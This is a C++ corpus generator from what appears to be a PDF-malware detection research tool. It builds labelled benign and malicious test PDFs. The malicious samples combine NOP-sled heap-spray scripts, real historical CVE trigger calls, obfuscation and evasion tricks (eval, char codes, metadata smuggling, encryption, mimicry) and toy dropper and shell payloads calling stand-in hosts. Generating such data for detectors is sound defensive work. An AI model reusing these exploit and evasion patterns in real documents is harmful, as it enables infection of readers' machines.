@@ -1,0 +1,518 @@
+#include "corpus/generator.hpp"
+
+#include "corpus/builders.hpp"
+#include "pdf/crypto.hpp"
+#include "reader/shellcode.hpp"
+
+namespace pdfshield::corpus {
+
+using reader::ShellcodeProgram;
+
+namespace {
+
+/// Escapes text into a single-quoted JS string literal.
+std::string js_literal(const std::string& s) {
+  std::string out = "'";
+  for (char c : s) {
+    if (c == '\'' || c == '\\') out.push_back('\\');
+    if (c == '\n') {
+      out += "\\n";
+      continue;
+    }
+    out.push_back(c);
+  }
+  out.push_back('\'');
+  return out;
+}
+
+/// Comma-separated char codes for the fromCharCode obfuscation style.
+std::string char_codes(const std::string& s) {
+  std::string out;
+  for (std::size_t i = 0; i < s.size(); ++i) {
+    if (i) out.push_back(',');
+    out += std::to_string(static_cast<int>(static_cast<unsigned char>(s[i])));
+  }
+  return out;
+}
+
+}  // namespace
+
+CorpusGenerator::CorpusGenerator(CorpusConfig config)
+    : config_(config), rng_(config.seed) {}
+
+// ---------------------------------------------------------------------------
+// Benign families
+// ---------------------------------------------------------------------------
+
+Sample CorpusGenerator::benign_sample(std::size_t index, bool force_js) {
+  Sample sample;
+  sample.malicious = false;
+  const bool with_js = force_js || rng_.chance(config_.benign_js_fraction);
+  sample.has_javascript = with_js;
+
+  DocumentBuilder builder(rng_);
+  const int pages = 2 + static_cast<int>(rng_.below(12));
+  builder.add_pages(pages, 400 + rng_.below(1200));
+  builder.add_padding_objects(8 + static_cast<int>(rng_.below(50)));
+  builder.set_info("Title", "Quarterly " + lorem_text(rng_, 16));
+  builder.set_info("Author", lorem_text(rng_, 10));
+  builder.set_info("Producer", "pdfshield-corpus");
+
+  if (!with_js) {
+    sample.family = "benign/plain";
+    sample.name = "benign-" + std::to_string(index) + ".pdf";
+    sample.data = builder.build();
+    return sample;
+  }
+
+  // Benign scripts also allocate: rendering helpers build report strings
+  // of tens of KB (a few MB at reported scale — the paper's benign
+  // population averages 7.1 MB in-JS with a 21 MB max).
+  const std::size_t benign_build =
+      (12u << 10) + rng_.below(68u << 10);  // 12-80 KB physical
+  const std::string report_build =
+      "var block = 'row;" + lorem_text(rng_, 24) + "';"
+      "while (block.length < " + std::to_string(benign_build) +
+      ") block += block;"
+      "var report = block;";
+
+  switch (rng_.below(5)) {
+    case 0: {  // form validation
+      sample.family = "benign/form-validation";
+      builder.add_form_field("amount", std::to_string(rng_.below(100000)));
+      builder.add_form_field("email", "user@example.org");
+      builder.set_open_action_js(
+          "var f = this.getField('amount');"
+          "var v = Number(f.value);"
+          "if (isNaN(v) || v < 0) { app.alert('Invalid amount'); }" +
+          report_build + "var msg = 'validated ' + v;");
+      break;
+    }
+    case 1: {  // field arithmetic
+      sample.family = "benign/field-sum";
+      builder.add_form_field("a", std::to_string(rng_.below(1000)));
+      builder.add_form_field("b", std::to_string(rng_.below(1000)));
+      builder.set_open_action_js(
+          "var total = Number(this.getField('a').value) +"
+          " Number(this.getField('b').value);"
+          "var report = util.printf('sum: %d', total);");
+      break;
+    }
+    case 2: {  // greeting / navigation
+      sample.family = "benign/greeting";
+      builder.set_open_action_js(
+          "var today = util.printd('yyyy-mm-dd', 0);" + report_build +
+          "app.alert('Welcome! Generated ' + today);");
+      break;
+    }
+    case 3: {  // named scripts (print helpers)
+      sample.family = "benign/named-scripts";
+      builder.add_named_js("init", "var prepared = true;");
+      builder.add_named_js("banner",
+                           "var banner = 'Document ' + this.documentFileName;");
+      break;
+    }
+    default: {  // rare SOAP-based submitter (the paper's benign network user)
+      if (rng_.chance(0.08)) {
+        sample.family = "benign/soap-submit";
+        builder.add_form_field("feedback", lorem_text(rng_, 40));
+        builder.set_open_action_js(
+            "var payload = this.getField('feedback').value;"
+            "SOAP.request({cURL: 'http://forms.example.org/submit',"
+            " oRequest: {text: payload}});");
+      } else {
+        sample.family = "benign/page-setup";
+        builder.set_open_action_js(
+            "var pages = this.numPages;"
+            "var label = 'pages: ' + pages;");
+      }
+    }
+  }
+  sample.name = "benign-js-" + std::to_string(index) + ".pdf";
+  sample.data = builder.build();
+  return sample;
+}
+
+std::vector<Sample> CorpusGenerator::generate_benign(std::size_t count) {
+  std::vector<Sample> out;
+  out.reserve(count);
+  for (std::size_t i = 0; i < count; ++i) {
+    out.push_back(benign_sample(i, /*force_js=*/false));
+  }
+  return out;
+}
+
+std::vector<Sample> CorpusGenerator::generate_benign_with_js(std::size_t count) {
+  std::vector<Sample> out;
+  out.reserve(count);
+  for (std::size_t i = 0; i < count; ++i) {
+    out.push_back(benign_sample(i, /*force_js=*/true));
+  }
+  return out;
+}
+
+// ---------------------------------------------------------------------------
+// Malicious families
+// ---------------------------------------------------------------------------
+
+std::string CorpusGenerator::spray_script(const std::string& shellcode,
+                                          std::size_t bytes,
+                                          const std::string& style) {
+  const std::string sled = "unescape('%u9090%u9090%u9090%u9090')";
+  std::string core =
+      "var unit = " + sled + " + " + js_literal(shellcode) + ";"
+      "var spray = unit;"
+      "while (spray.length < " + std::to_string(bytes) + ") spray += spray;"
+      "var keep = spray;";
+
+  if (style == "plain") return core;
+  if (style == "eval") {
+    return "var code = " + js_literal(core) + "; eval(code);";
+  }
+  if (style == "charcode") {
+    return "var cc = [" + char_codes(core) + "];"
+           "var src = '';"
+           "for (var i = 0; i < cc.length; i++) src +="
+           " String.fromCharCode(cc[i]);"
+           "eval(src);";
+  }
+  // "title" and "fields" styles are assembled by the caller (they need the
+  // document side of the payload).
+  return core;
+}
+
+Sample CorpusGenerator::malicious_sample(std::size_t index) {
+  Sample sample;
+  sample.malicious = true;
+  sample.has_javascript = true;
+  sample.name = "mal-" + std::to_string(index) + ".pdf";
+
+  // --- behaviour family ----------------------------------------------------
+  double roll = rng_.uniform01();
+  auto take = [&roll](double frac) {
+    if (roll < frac) {
+      roll = 2.0;  // consumed
+      return true;
+    }
+    roll -= frac;
+    return false;
+  };
+
+  enum class Family {
+    kNoise, kCrashPlain, kCrashObfuscated, kRender, kStaged, kDelayed,
+    kEggHunt, kInject, kShell, kDropper,
+  } family = Family::kDropper;
+  if (take(config_.frac_noise)) family = Family::kNoise;
+  else if (take(config_.frac_crash_plain)) family = Family::kCrashPlain;
+  else if (take(config_.frac_crash_obfuscated)) family = Family::kCrashObfuscated;
+  else if (take(config_.frac_render_context)) family = Family::kRender;
+  else if (take(config_.frac_staged)) family = Family::kStaged;
+  else if (take(config_.frac_delayed)) family = Family::kDelayed;
+  else if (take(config_.frac_egghunt)) family = Family::kEggHunt;
+  else if (take(config_.frac_inject)) family = Family::kInject;
+  else if (take(config_.frac_shell)) family = Family::kShell;
+
+  // --- shellcode program ----------------------------------------------------
+  const std::string tag = rng_.hex_string(6);
+  ShellcodeProgram prog;
+  switch (family) {
+    case Family::kEggHunt:
+      prog.ops.push_back({"HUNT", {std::to_string(16 + rng_.below(48))}});
+      prog.ops.push_back({"WRITE", {"c:/temp/egg-" + tag + ".exe", "egg-payload"}});
+      prog.ops.push_back({"EXEC", {"c:/temp/egg-" + tag + ".exe"}});
+      sample.family = "malicious/egghunt";
+      break;
+    case Family::kInject:
+      prog.ops.push_back({"INJECT", {"*", "hk-" + tag + ".dll"}});
+      sample.family = "malicious/dll-inject";
+      break;
+    case Family::kShell:
+      if (rng_.chance(0.5)) {
+        prog.ops.push_back({"CONNECT", {"198.51.100." + std::to_string(rng_.below(255)),
+                                        std::to_string(1024 + rng_.below(60000))}});
+        sample.family = "malicious/reverse-shell";
+      } else {
+        prog.ops.push_back({"LISTEN", {std::to_string(1024 + rng_.below(60000))}});
+        sample.family = "malicious/bind-shell";
+      }
+      break;
+    default:
+      prog.ops.push_back({"DROP", {"http://mal-" + tag + ".example/p.exe",
+                                   "c:/temp/p-" + tag + ".exe"}});
+      prog.ops.push_back({"EXEC", {"c:/temp/p-" + tag + ".exe"}});
+      sample.family = "malicious/dropper";
+      break;
+  }
+  std::string shellcode = reader::encode_shellcode(prog);
+  if (family == Family::kCrashPlain || family == Family::kCrashObfuscated) {
+    // Corrupt the marker: the sled is there but the hijack finds no
+    // working shellcode and the reader dies.
+    shellcode[1] = 'X';
+    sample.family = family == Family::kCrashPlain ? "malicious/crash-plain"
+                                                  : "malicious/crash-obfuscated";
+    sample.expect_crash = true;
+  }
+
+  // --- trigger -------------------------------------------------------------
+  std::string trigger;
+  if (family == Family::kRender) {
+    static const char* kRenderCves[][2] = {
+        {"CVE-2010-2883", "Font"}, {"CVE-2010-3654", "Flash"},
+        {"CVE-2009-3953", "U3D"},  {"CVE-2010-0188", "TIFF"},
+        {"CVE-2009-0658", "JBIG2"}};
+    const auto& pick = kRenderCves[rng_.below(5)];
+    sample.cve = pick[0];
+    sample.family = "malicious/render-" + std::string(pick[1]);
+    trigger = "";  // exploit fires during rendering, not from JS
+  } else if (family == Family::kNoise) {
+    if (rng_.chance(0.5)) {
+      sample.cve = "CVE-2009-1492";
+      trigger = "this.getAnnots(-1);";
+    } else {
+      sample.cve = "CVE-2013-0640";
+      trigger = "this.xfa();";
+    }
+    sample.expect_noise = true;
+    sample.family = "malicious/noise-" + sample.cve;
+  } else {
+    if (rng_.chance(0.5)) {
+      sample.cve = "CVE-2009-0927";
+      trigger = "Collab.getIcon(keep.substring(0, 1500));";
+    } else {
+      sample.cve = "CVE-2009-4324";
+      trigger = "this.media.newPlayer(null);";
+    }
+  }
+
+  // --- spray size (Fig. 7 range) --------------------------------------------
+  // Right-skewed draw: most samples spray near the minimum (the paper's
+  // population clusters in the low hundreds of MB with a 1.7 GB tail).
+  const double skew = rng_.uniform01() * rng_.uniform01();
+  const std::size_t spray_bytes =
+      config_.spray_min_bytes +
+      static_cast<std::size_t>(
+          skew * static_cast<double>(config_.spray_max_bytes -
+                                     config_.spray_min_bytes));
+
+  // --- JS obfuscation style ---------------------------------------------------
+  std::string style = "plain";
+  const double style_roll = rng_.uniform01();
+  if (style_roll < 0.20) style = "eval";
+  else if (style_roll < 0.32) style = "charcode";
+  else if (style_roll < 0.45) style = "title";
+
+  // --- document assembly ------------------------------------------------------
+  DocumentBuilder builder(rng_);
+  builder.add_blank_page();
+
+  std::string script;
+  const std::string payload = spray_script(shellcode, spray_bytes,
+                                           style == "title" ? "plain" : style);
+  if (family == Family::kNoise) {
+    // Version-fingerprinting gate: attack only readers the CVE affects, so
+    // the sample "does nothing" on Acrobat 8/9.
+    const std::string gate = sample.cve == "CVE-2009-1492"
+                                 ? "app.viewerVersion < 7.5"
+                                 : "app.viewerVersion >= 10.5";
+    script = "if (" + gate + ") {" + payload + trigger + "}";
+  } else if (family == Family::kStaged) {
+    sample.family = "malicious/staged";
+    script = payload + "this.addScript('u" + tag + "', " + js_literal(trigger) + ");";
+  } else if (family == Family::kDelayed) {
+    sample.family = "malicious/delayed";
+    script = payload + "app.setTimeOut(" + js_literal(trigger) + ", " +
+             std::to_string(1000 + rng_.below(30000)) + ");";
+  } else if (style == "title") {
+    // Payload smuggled into document metadata; the visible script only
+    // holds an eval of this.info — extraction-based tools lose it.
+    builder.set_info("Title", payload + trigger);
+    script = "eval(this.info.Title);";
+  } else {
+    script = payload + trigger;
+  }
+
+  // --- static-feature obfuscation draws (Table VI marginals) ----------------
+  int encoding_levels = 1;
+  const double enc_roll = rng_.uniform01();
+  if (enc_roll < config_.frac_encoding_none) encoding_levels = 0;
+  else if (enc_roll < config_.frac_encoding_none + config_.frac_encoding_multi2) encoding_levels = 2;
+  else if (enc_roll < config_.frac_encoding_none + config_.frac_encoding_multi2 +
+                          config_.frac_encoding_multi3) {
+    encoding_levels = 3;
+  }
+
+  // Trigger surface: mostly /OpenAction, but real corpora also arm page
+  // /AA actions and /Names-tree scripts.
+  const double trigger_roll = rng_.uniform01();
+  if (trigger_roll < 0.70 || family == Family::kStaged ||
+      family == Family::kDelayed) {
+    builder.set_open_action_js(script, /*in_stream=*/encoding_levels > 0);
+  } else if (trigger_roll < 0.85) {
+    builder.set_page_aa_js(script, /*in_stream=*/encoding_levels > 0);
+    sample.family += "+page-aa";
+  } else {
+    builder.add_named_js("x" + tag, script, /*in_stream=*/encoding_levels > 0);
+    sample.family += "+named";
+  }
+  if (encoding_levels > 1) builder.set_js_encoding_levels(encoding_levels);
+  else if (encoding_levels == 1) builder.set_js_encoding_levels(1);
+
+  if (family == Family::kRender) {
+    const std::string subtype = sample.family.substr(sample.family.rfind('-') + 1);
+    builder.add_render_exploit(sample.cve, subtype);
+  }
+
+  bool header_obf = rng_.chance(config_.frac_header_obf);
+  bool hex_code = rng_.chance(config_.frac_hex_code);
+  if (family == Family::kCrashPlain) {
+    header_obf = hex_code = false;
+  } else if (family == Family::kCrashObfuscated) {
+    header_obf = true;  // guarantee one static feature
+  }
+  if (hex_code) builder.hexify_js_keywords();
+  if (rng_.chance(config_.frac_empty_objects) && family != Family::kCrashPlain) {
+    builder.add_empty_objects_on_chain(1 + static_cast<int>(rng_.below(5)));
+  }
+
+  // --- chain-ratio shaping (Fig. 6) -----------------------------------------
+  if (family == Family::kCrashPlain || rng_.chance(config_.frac_low_ratio)) {
+    // Low-ratio tail: pad with enough unrelated objects to dip under 0.2.
+    builder.add_pages(3, 400);
+    builder.add_padding_objects(30 + static_cast<int>(rng_.below(30)));
+  } else if (rng_.chance(config_.frac_ratio_one)) {
+    // Ratio-1 samples: every object ends up on the Javascript chain.
+    // (Achieved by referencing the page tree from the action itself.)
+    pdf::Document& d = builder.document();
+    for (auto& [num, obj] : d.objects()) {
+      if ((obj.is_dict() || obj.is_stream()) &&
+          obj.dict_or_stream_dict().contains("JS")) {
+        pdf::Object* root = d.trailer().find("Root");
+        if (root && root->is_ref()) {
+          obj.dict_or_stream_dict().set("P", *root);
+        }
+      }
+    }
+  }
+
+  // Owner-password protection: a real anti-analysis trick. The encrypted
+  // strings/streams defeat naive static scanners; readers (and our
+  // front-end) open them with the empty user password.
+  if (rng_.chance(config_.frac_owner_encrypted)) {
+    pdf::encrypt_document(builder.document(), "s3cret-own3r", rng_);
+    sample.family += "+encrypted";
+  }
+
+  // Ground truth for Table VIII.
+  sample.expect_detectable = !sample.expect_noise &&
+                             sample.family.rfind("malicious/crash-plain", 0) != 0;
+
+  sample.data = builder.build(header_obf);
+  return sample;
+}
+
+std::vector<Sample> CorpusGenerator::generate_malicious(std::size_t count) {
+  std::vector<Sample> out;
+  out.reserve(count);
+  for (std::size_t i = 0; i < count; ++i) out.push_back(malicious_sample(i));
+  return out;
+}
+
+std::pair<Sample, Sample> CorpusGenerator::generate_cross_document_pair() {
+  const std::string tag = rng_.hex_string(6);
+  const std::string exe = "c:/temp/split-" + tag + ".exe";
+
+  auto make = [&](const std::string& name, const ShellcodeProgram& prog,
+                  const std::string& trigger) {
+    Sample s;
+    s.malicious = true;
+    s.has_javascript = true;
+    s.name = name;
+    s.family = "malicious/cross-document";
+    s.cve = "CVE-2009-0927";
+    DocumentBuilder builder(rng_);
+    builder.add_blank_page();
+    builder.set_open_action_js(
+        spray_script(reader::encode_shellcode(prog), 4u << 20, "plain") + trigger);
+    s.data = builder.build();
+    return s;
+  };
+
+  ShellcodeProgram dropper;
+  dropper.ops.push_back({"DROP", {"http://mal-" + tag + ".example/s.exe", exe}});
+  ShellcodeProgram executor;
+  executor.ops.push_back({"EXEC", {exe}});
+
+  return {make("cross-a-" + tag + ".pdf", dropper,
+               "Collab.getIcon(keep.substring(0, 1500));"),
+          make("cross-b-" + tag + ".pdf", executor,
+               "this.media.newPlayer(null);")};
+}
+
+Sample CorpusGenerator::generate_embedded_attack_sample(std::size_t index) {
+  const std::string tag = rng_.hex_string(6);
+
+  // Inner document: a straightforward dropper.
+  ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://mal-" + tag + ".example/e.exe",
+                               "c:/temp/e-" + tag + ".exe"}});
+  prog.ops.push_back({"EXEC", {"c:/temp/e-" + tag + ".exe"}});
+  DocumentBuilder inner(rng_);
+  inner.add_blank_page();
+  inner.set_open_action_js(
+      spray_script(reader::encode_shellcode(prog), 2u << 20, "plain") +
+      "Collab.getIcon(keep.substring(0, 1500));");
+  const support::Bytes inner_bytes = inner.build();
+
+  // Host: looks like an ordinary report; its only trick is launching the
+  // attachment.
+  Sample sample;
+  sample.malicious = true;
+  sample.has_javascript = true;
+  sample.name = "embedded-attack-" + std::to_string(index) + ".pdf";
+  sample.family = "malicious/embedded-pdf";
+  sample.cve = "CVE-2009-0927";
+  DocumentBuilder host(rng_);
+  host.add_pages(4, 700);
+  host.add_padding_objects(20);
+  host.set_info("Title", "Shipping label " + tag);
+  host.add_embedded_file("update.pdf", inner_bytes);
+  host.set_open_action_js(
+      "this.exportDataObject({cName: 'update.pdf', nLaunch: 2});");
+  sample.data = host.build();
+  return sample;
+}
+
+Sample CorpusGenerator::make_mimicry_variant(std::size_t index) {
+  // Structural mimicry [8]: runtime behaviour of a dropper, wrapped in a
+  // document whose every static signal matches the benign population —
+  // rich page tree, padding objects, realistic metadata, no obfuscation,
+  // JS stored exactly like benign form scripts.
+  Sample sample;
+  sample.malicious = true;
+  sample.has_javascript = true;
+  sample.name = "mimicry-" + std::to_string(index) + ".pdf";
+  sample.family = "malicious/mimicry";
+  sample.cve = "CVE-2009-0927";
+
+  const std::string tag = rng_.hex_string(6);
+  ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://mal-" + tag + ".example/m.exe",
+                               "c:/temp/m-" + tag + ".exe"}});
+  prog.ops.push_back({"EXEC", {"c:/temp/m-" + tag + ".exe"}});
+
+  DocumentBuilder builder(rng_);
+  builder.add_pages(6 + static_cast<int>(rng_.below(8)), 600 + rng_.below(800));
+  builder.add_padding_objects(25 + static_cast<int>(rng_.below(40)));
+  builder.set_info("Title", "Annual " + lorem_text(rng_, 14));
+  builder.set_info("Author", lorem_text(rng_, 10));
+  builder.add_form_field("amount", "100");
+  builder.set_open_action_js(
+      "var f = this.getField('amount');"  // benign-looking preamble
+      "var v = Number(f.value);" +
+      spray_script(reader::encode_shellcode(prog), 4u << 20, "plain") +
+      "Collab.getIcon(keep.substring(0, 1500));");
+  sample.data = builder.build();
+  return sample;
+}
+
+}  // namespace pdfshield::corpus
